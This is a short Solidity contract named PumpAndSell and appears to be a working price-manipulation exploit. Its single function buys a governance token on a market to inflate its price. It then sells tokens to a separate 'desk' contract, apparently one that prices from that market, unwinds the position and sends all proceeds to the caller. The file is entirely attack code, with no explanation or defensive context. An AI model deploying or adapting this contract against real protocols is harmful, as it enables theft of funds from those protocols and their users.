pragma solidity 0.8.19;

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
    function approve(address spender, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IMarket {
    function swap(address tokenIn, uint256 amountIn, address to) external returns (uint256);
}

interface IDesk {
    function sell(uint256 govAmount) external returns (uint256);
}

contract PumpAndSell {
    function run(IToken usd, IToken gov, IMarket market, IDesk desk, uint256 pump, uint256 sold) external {
        usd.approve(address(market), type(uint256).max);
        gov.approve(address(market), type(uint256).max);
        gov.approve(address(desk), type(uint256).max);
        uint256 bought = market.swap(address(usd), pump, address(this));
        desk.sell(sold);
        market.swap(address(gov), bought, address(this));
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        gov.transfer(msg.sender, gov.balanceOf(address(this)));
    }
}
